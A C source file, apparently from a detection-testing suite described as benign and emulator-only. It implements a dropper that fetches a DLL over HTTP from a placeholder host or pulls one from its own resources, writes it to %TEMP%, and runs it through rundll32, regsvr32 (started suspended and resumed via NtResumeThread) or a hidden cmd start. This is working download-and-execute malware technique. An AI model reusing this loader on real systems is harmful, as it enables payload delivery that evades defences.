/*
 * lolbin.c - generality suite: drop a DLL or a program and have a signed system program run it
 * (benign, emulator-only; see ../../lineage-common/common.h). One source, three chains:
 *
 *   RUN_RUNDLL32  WinINet GET http://updates.example-cdn.net/v1/update.dll -> %TEMP%\update.dll,
 *                 then CreateProcessA(NULL, "rundll32.exe \"PATH\",Start --child")
 *   RUN_REGSVR32  the launcher's own RCDATA resource 101 -> %TEMP%\update.dll, then
 *                 CreateProcessA(NULL, "regsvr32.exe /s \"PATH\"", CREATE_SUSPENDED) and
 *                 ntdll!NtResumeThread of its main thread
 *   RUN_CMD       the launcher's own RCDATA resource 101 -> %TEMP%\helper.exe, then
 *                 WinExec("cmd.exe /c start \"\" %TEMP%\helper.exe --child") (cmd expands %TEMP%)
 * and the launcher exits (ExitProcess(0)) without waiting.
 * Exit codes: 0 ok, 1 no marker, 2 network / resource, 3 file, 4 start, 5 resume.
 */
#include "common.h"
#ifdef RUN_RUNDLL32
#include <wininet.h>
#endif
#ifdef RUN_CMD
#define DROPPED "helper.exe"
#else
#define DROPPED "update.dll"
#endif
#define PAYLOAD_RESOURCE 101

typedef LONG (WINAPI *NtResumeThread_t)(HANDLE, PULONG);

static unsigned char g_body[0x10000];

static DWORD fetch(void)
{
    DWORD total = 0;
#ifdef RUN_RUNDLL32
    HINTERNET net, url;
    DWORD got;
    net = InternetOpenA("Mozilla/5.0 (compatible; chainreplay-demo)", INTERNET_OPEN_TYPE_PRECONFIG, 0, 0, 0);
    if (!net)
        return 0;
    url = InternetOpenUrlA(net, "http://updates.example-cdn.net/v1/update.dll", 0, 0, INTERNET_FLAG_RELOAD, 0);
    if (!url)
        return 0;
    while (total < sizeof(g_body) && InternetReadFile(url, g_body + total, sizeof(g_body) - total, &got) && got)
        total += got;
    InternetCloseHandle(url);
    InternetCloseHandle(net);
#else
    HRSRC found = FindResourceA(0, MAKEINTRESOURCEA(PAYLOAD_RESOURCE), (LPCSTR)RT_RCDATA);
    const unsigned char *data;
    DWORD i;
    if (!found)
        return 0;
    total = SizeofResource(0, found);
    data = (const unsigned char *)LockResource(LoadResource(0, found));
    if (!data || total > sizeof(g_body))
        return 0;
    for (i = 0; i < total; i++)
        g_body[i] = data[i];
#endif
    return total;
}

static DWORD append(char *dst, DWORD at, const char *src)
{
    while (*src)
        dst[at++] = *src++;
    dst[at] = 0;
    return at;
}

void Entry(void)
{
    static char path[MAX_PATH + 16];
    static char cmd[MAX_PATH + 64];
    DWORD total, n, written;
    HANDLE f;

    if (!marker_present())
        ExitProcess(1);
    total = fetch();
    if (total < 0x200)
        ExitProcess(2);
    n = GetTempPathA(MAX_PATH, path);
    if (n == 0 || n > MAX_PATH)
        ExitProcess(3);
    if (path[n - 1] != '\\')
        path[n++] = '\\';
    copy_str(path + n, DROPPED, 16);
    f = CreateFileA(path, GENERIC_WRITE, 0, 0, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, 0);
    if (f == INVALID_HANDLE_VALUE || !WriteFile(f, g_body, total, &written, 0))
        ExitProcess(3);
    CloseHandle(f);
#ifdef RUN_CMD
    /* The command line names %TEMP%: cmd.exe expands it. */
    append(cmd, 0, "cmd.exe /c start \"\" %TEMP%\\" DROPPED " --child");
    if (WinExec(cmd, SW_HIDE) <= 31)
        ExitProcess(4);
#else
    {
        STARTUPINFOA si;
        PROCESS_INFORMATION pi;
        DWORD i, flags = 0;
        for (i = 0; i < sizeof(si); i++)
            ((unsigned char *)&si)[i] = 0;
        si.cb = sizeof(si);
#ifdef RUN_RUNDLL32
        n = append(cmd, 0, "rundll32.exe \"");
        n = append(cmd, n, path);
        append(cmd, n, "\",Start --child");
#else
        n = append(cmd, 0, "regsvr32.exe /s \"");
        n = append(cmd, n, path);
        append(cmd, n, "\"");
        flags = CREATE_SUSPENDED;
#endif
        if (!CreateProcessA(0, cmd, 0, 0, FALSE, flags, 0, 0, &si, &pi))
            ExitProcess(4);
#ifdef RUN_REGSVR32
        {
            NtResumeThread_t resume = (NtResumeThread_t)(void *)GetProcAddress(GetModuleHandleA("ntdll.dll"), "NtResumeThread");
            ULONG previous = 0;
            if (!resume || resume(pi.hThread, &previous) != 0 || previous != 1)
                ExitProcess(5);
        }
#endif
        CloseHandle(pi.hThread);
        CloseHandle(pi.hProcess);
    }
#endif
    ExitProcess(0);
}
